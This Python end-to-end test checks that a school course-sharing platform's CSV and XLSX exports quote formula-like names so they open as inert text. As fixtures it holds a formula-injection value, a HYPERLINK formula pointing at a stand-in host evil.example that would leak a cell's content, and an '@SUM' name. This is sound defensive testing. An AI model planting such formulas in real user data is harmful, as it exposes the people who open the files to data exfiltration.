"""Exports carry people's text as text: a course or leader name that looks like a formula is never a live formula
in the CSV or XLSX an admin downloads and opens."""

from __future__ import annotations

import csv
import io
import uuid

from openpyxl import load_workbook

from devmesh.client import Api
from tests.e2e.conftest import SchoolWorld, create_account
from tests.e2e.test_sharing import list_dates, mooc_run, new_term


def test_a_formula_in_a_course_or_leader_name_is_exported_inert(api: Api, center: Api, school: SchoolWorld) -> None:
    term = new_term(center)
    list_id = center.post("/sharing/lists", {"term_code": term, "title": "清单", **list_dates(term)})["id"]
    leader_name = "@SUM(1+1)"
    leader = create_account(school.admin, api, role="teacher", school_id=school.id, number="FX1",
                            name=leader_name)[1]
    course_name = f'=HYPERLINK("http://evil.example/"&A1,"点我{uuid.uuid4().hex[:4]}")'
    run = mooc_run(center, school, leader, leader_name, course_name, term)["run"]
    school.admin.post(f"/sharing/lists/{list_id}/entries", {"run_id": run["id"]})
    headers = {"Authorization": f"Bearer {school.admin.token}"}

    exported = school.admin.http.get(f"/api/v1/sharing/lists/{list_id}/export", params={"format": "csv"},
                                     headers=headers)
    assert exported.status_code == 200, exported.text
    cells = [cell for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + course_name in cells and "'" + leader_name in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    exported = school.admin.http.get(f"/api/v1/sharing/lists/{list_id}/export", params={"format": "xlsx"},
                                     headers=headers)
    assert exported.status_code == 200, exported.text
    sheet = load_workbook(io.BytesIO(exported.content)).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not any(cell.data_type == "f" for cell in values)  # no formula cell at all
    texts = [cell.value for cell in values]
    assert "'" + course_name in texts and "'" + leader_name in texts
